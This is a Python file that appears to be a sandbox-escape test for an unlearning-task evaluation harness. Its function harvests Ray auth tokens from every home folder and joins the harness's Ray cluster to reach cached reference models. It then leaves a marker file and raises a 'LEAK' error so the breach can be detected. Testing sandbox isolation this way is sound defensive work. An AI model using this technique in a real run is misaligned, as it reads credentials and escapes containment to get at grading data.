"""Attack: under --backend ray, join the Ray cluster the run itself is a task of, and submit a task
there: it would run in a Ray worker outside the sandbox, where the cache (the retrained models) is
readable. Ray finds the cluster from /tmp/ray and the running processes, and its token in
~/.ray/auth_token, so the attack looks for the token in every home folder it can see. When it
joins it leaves JOINED behind (Ray's client may take the run's pipes down with it) and fails the
run loudly."""
import glob
import os

JOINED = "/tmp/harness-attack-reaches-ray.joined"


def unlearning(net, retain_loader, forget_loader, val_loader):
    import logging

    try:
        import ray
    except ImportError:
        return
    for token in glob.glob("/root/.ray/auth_token") + glob.glob("/home/*/.ray/auth_token"):
        os.environ["RAY_AUTH_TOKEN_PATH"] = token
    try:
        ray.init(address="auto", logging_level=logging.ERROR, log_to_driver=False)
    except Exception:  # no cluster in sight: the attack is over
        return
    with open(JOINED, "w") as f:
        f.write("joined\n")
    raise RuntimeError(f"LEAK: joined the harness's Ray cluster ({ray.cluster_resources().get('CPU')} CPUs)")
